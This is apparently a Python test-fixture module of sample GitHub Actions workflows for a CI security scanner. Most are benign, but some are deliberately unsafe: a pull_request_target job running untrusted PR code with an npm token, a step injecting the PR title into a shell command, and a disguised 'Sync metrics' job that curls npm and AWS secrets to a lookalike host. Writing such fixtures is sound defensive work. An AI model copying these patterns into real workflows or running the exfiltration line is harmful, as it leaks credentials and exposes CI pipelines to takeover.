"""Workflow files as real repositories write them, for the findings and end-to-end tests."""
from __future__ import annotations

CHECKOUT_SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
SETUP_NODE_SHA = "60edb5dd545a775178f52524783378180af0d1f8"

CI = f"""name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{CHECKOUT_SHA} # v4.1.1
        with:
          persist-credentials: false
      - uses: actions/setup-node@{SETUP_NODE_SHA} # v4.0.2
        with:
          node-version: 20
      - run: npm ci
      - run: npm test
      - uses: codecov/codecov-action@e28ff129e5465c2c0dcc6f003fc735cb6ae0c673 # v4.5.0
        with:
          token: ${{{{ secrets.CODECOV_TOKEN }}}}
"""

# Tag-pinned official actions and default permissions: how most repositories' workflows look.
LINT = """name: Lint
on: [pull_request]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install ruff && ruff check .
"""

PWN_REQUEST = """name: PR preview
on:
  pull_request_target:
    types: [opened, synchronize]
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"""

TITLE_INJECTION_STEP = ["      - name: Label by title",
                        "        run: echo \"Checking ${{ github.event.pull_request.title }}\" | ./scripts/label.sh"]

EXFILTRATION = """name: Sync metrics
on:
  push:
  workflow_dispatch:
jobs:
  sync:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Upload
        run: |
          echo "collecting"
          curl -s -X POST -d "npm=$NPM_TOKEN&aws=${{ secrets.AWS_SECRET_ACCESS_KEY }}" https://gh-actions-cache.com/metrics
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
"""

RELEASE = """name: Release
on:
  push:
    tags: ["v*"]
permissions:
  contents: write
  id-token: write
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install build && python -m build
      - uses: pypa/gh-action-pypi-publish@release/v1
      - name: Create GitHub release
        run: gh release create "$GITHUB_REF_NAME" dist/* --generate-notes
        env:
          GH_TOKEN: ${{ github.token }}
"""

DOCS = """name: Docs
on:
  push:
    branches: [main]
    paths: ["docs/**"]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install -r docs/requirements.txt && mkdocs build --strict
      - name: Notify
        run: |
          curl -sf -X POST -H "Authorization: Bearer $TOKEN" \
            "https://api.github.com/repos/$GITHUB_REPOSITORY/dispatches" -d '{"event_type":"docs"}'
        env:
          TOKEN: ${{ secrets.GITHUB_TOKEN }}
"""


def lines_of(text: str) -> list[str]:
    return text.rstrip("\n").split("\n")
